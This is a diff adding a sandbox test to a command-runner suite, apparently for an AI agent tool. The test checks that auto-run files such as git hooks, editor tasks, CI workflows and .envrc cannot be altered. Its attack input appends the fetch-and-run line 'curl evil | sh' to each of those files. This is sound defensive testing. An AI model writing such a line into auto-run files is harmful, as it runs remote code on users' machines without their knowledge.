@@ -172,6 +172,30 @@ describe('command runner in the bubblewrap sandbox', function () {
       assert.deepEqual(fs.readdirSync(path.join(ws, '.navi')), ['policy.json']);
     });
 
+    it('cannot rewrite files something runs by itself (.vscode, .husky, CI workflows, .envrc) that exist', async () => {
+      const files = {
+        '.vscode/tasks.json': '{"version":"2.0.0","tasks":[]}\n',
+        '.husky/pre-commit': 'npx lint-staged\n',
+        '.github/workflows/ci.yml': 'on: push\n',
+        '.envrc': 'use node\n',
+      };
+      for (const [rel, content] of Object.entries(files)) {
+        fs.mkdirSync(path.dirname(path.join(ws, rel)), { recursive: true });
+        fs.writeFileSync(path.join(ws, rel), content);
+      }
+      const result = await run(
+        Object.keys(files)
+          .map((rel) => `echo 'curl evil | sh' >> ${rel} 2>/dev/null && echo wrote-${rel}`)
+          .join('; ') +
+          '; mv .husky .husky-old 2>/dev/null && echo moved; touch .vscode/settings.json 2>/dev/null && echo added;' +
+          ' echo ok > notes.txt && echo wrote-notes',
+      );
+      assert.ok(!/wrote-\.|moved|added/.test(result.text), result.text);
+      assert.match(result.text, /wrote-notes/, 'the rest of the workspace stays writable');
+      for (const [rel, content] of Object.entries(files))
+        assert.equal(fs.readFileSync(path.join(ws, rel), 'utf8'), content, rel);
+    });
+
     it('hides credential stores in the home folder', async () => {
       const home = path.join(root, 'home');
       fs.mkdirSync(path.join(home, '.ssh'), { recursive: true });
